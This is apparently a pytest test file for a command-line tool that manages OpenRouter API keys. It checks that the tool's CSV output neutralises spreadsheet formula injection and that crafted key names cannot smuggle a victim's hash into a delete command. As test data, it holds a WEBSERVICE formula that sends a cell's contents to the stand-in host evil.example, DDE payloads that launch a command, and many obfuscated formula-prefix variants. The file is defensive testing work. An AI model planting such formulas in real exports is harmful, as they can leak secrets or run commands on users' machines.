"""CSV that the command writes: exact for programs, and text alone for a spreadsheet."""

import csv
import io
import re
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openrouter_keys.cli.specs.file import read_specs
from openrouter_keys.cli.terminal.csv_cells import csv_row, restored
from tests.commands import Command
from tests.tables import in_one_test

LINK: Final = '=WEBSERVICE("http://evil.example/?"&D2)'
# What a spreadsheet runs, or could run once it has trimmed, split or folded it.
FORMULAS: Final = (
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a;  @SUM(1)",
    'x;"=1+1',
    'x;""=1+1;y',
    "x;'\"=1+1",
    "x;'=1+1",
    'x;"\u200b=1+1',
    'x; " @SUM(1)',
    'x\t"=1+1\ty',
    'x\n"=1+1;y',
    "=",
    "--5",
    "-5;=1",
)
HARMLESS: Final = (
    "Ada",
    "-5",
    "+47.5",
    "-1e-07",
    "a=b",
    "a, =b",
    "O'Neill",
    "'quoted'",
    "Møller; Ø",
    '"',
    "",
    " padded ",
    "2027-12-31T23:59:59Z",
)
# Where a program that splits at commas, or at semicolons, tabs and line ends, sees a cell begin.
RUNS: Final = re.compile(
    r"(?:^|[;\t\r\n])[\s\0-\x1f\u200b-\u200f\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]"
)


def only_cell(text: str) -> str:
    ((_, cell, _),) = csv.reader(io.StringIO(text, newline=""), strict=True)
    return cell


@in_one_test("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    cell = only_cell(csv_row(("a", text, "b")))
    assert not RUNS.search(cell)
    assert restored(cell) == text


@in_one_test("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_no_cell_is_a_formula_in_another_country(text: str, delimiter: str) -> None:
    written = csv_row(("r1", text, "b"))
    for row in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
        for cell in row:
            assert not RUNS.match(cell), cell


@in_one_test("text", HARMLESS)
def test_other_cells_are_as_they_were(text: str) -> None:
    assert only_cell(csv_row(("a", text, "b"))) == text == restored(text)


@pytest.mark.slow
@given(st.text(alphabet="a;'\"=+-@\t\r\n ,5\ufeff\uff1d"))
def test_any_text_comes_back_from_a_cell_that_is_none(text: str) -> None:
    cell = only_cell(csv_row(("a", text, "b")))
    assert restored(cell) == text
    assert re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) or not RUNS.search(cell)


def test_a_row_of_one_empty_cell_is_a_row() -> None:
    assert [*csv.reader([csv_row(("",))])] == [[""]]


LISTS: Final = (
    ("list", "--csv"),
    ("list", "--csv", "--columns", "name"),
    ("usage", "--csv"),
    ("get", "{hash}", "--csv"),
    ("delete", "{hash}", "--csv", "--dry-run"),
    ("update", "{hash}", "--limit", "3", "--csv"),
    ("rotate", "{hash}", "--csv", "--dry-run"),
    ("provision", "customers.csv", "--plan", "--csv"),
)


@pytest.mark.parametrize("words", LISTS, ids=" ".join)
def test_every_command_defuses_what_it_prints(command: Command, words: tuple[str, ...]) -> None:
    key = command.emulator.account.create({"name": LINK, "limit": 5})
    (command.folder / "customers.csv").write_text(csv_row(("name",)) + csv_row((LINK,)))
    ran = command(*(word.format(hash=key.hash) for word in words))
    assert ran.code == 0
    (row,) = csv.DictReader(io.StringIO(ran.out))
    assert row["name"] == f"'{LINK}"


SECRETS: Final = (
    ("create", LINK, "-o", "keys.csv"),
    ("provision", "customers.csv", "--journal", "j", "-o", "keys.csv"),
    ("rotate", "{hash}", "--journal", "j", "-o", "keys.csv", "--yes"),
)


@pytest.mark.slow
@pytest.mark.parametrize("words", SECRETS, ids=lambda words: words[0])
def test_no_name_is_a_formula_beside_a_secret(command: Command, words: tuple[str, ...]) -> None:
    key = command.emulator.account.create({"name": LINK, "limit": 5})
    (command.folder / "customers.csv").write_text(csv_row(("name",)) + csv_row((LINK,)))
    assert command(*(word.format(hash=key.hash) for word in words)).code == 0
    (row,) = csv.DictReader(io.StringIO((command.folder / "keys.csv").read_text()))
    assert row["name"] == f"'{LINK}"
    assert row["key"].startswith("sk-or-v1-")
    if (command.folder / "j").exists():
        assert command("journal", "export", "j", "-o", "all.csv").code == 0
        (row,) = csv.DictReader(io.StringIO((command.folder / "all.csv").read_text()))
        assert row["name"] == f"'{LINK}"


@pytest.mark.parametrize("name", [*FORMULAS[:4], "'=1+1", "a;=1+1", "a\n=1+1", "'quoted'"])
def test_a_list_that_was_printed_is_read_back_as_specs(command: Command, name: str) -> None:
    command.emulator.account.create({"name": name, "limit": 5})
    file = command.folder / "again.csv"
    file.write_text(command("list", "--csv", "--columns", "name,limit").out, newline="")
    (read,) = read_specs(file)
    assert (read.name, read.limit) == (name, 5)


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("name", ["Ada{end}{victim}", '"{end}{victim},"', "{end}{victim},x"])
def test_a_line_of_a_name_is_no_hash_to_delete(command: Command, name: str, end: str) -> None:
    victim = command.emulator.account.create({"name": "victim"})
    command.emulator.account.create({"name": name.format(end=end, victim=victim.hash)})
    listed = command("list", "--csv", "--name", f"*{victim.hash}*").out
    assert command("delete", "-", "--yes", stdin=listed).code == 0
    assert [*command.emulator.account.keys] == [victim.hash]


def test_hashes_in_csv_that_is_cut_short_delete_nothing(command: Command) -> None:
    victim = command.emulator.account.create({"name": "victim"})
    ran = command("delete", "-", "--yes", stdin=f'hash,name\n{victim.hash},"vic')
    assert (ran.code, len(command.emulator.account.keys)) == (2, 1)
    assert "standard input is not readable as CSV" in ran.err
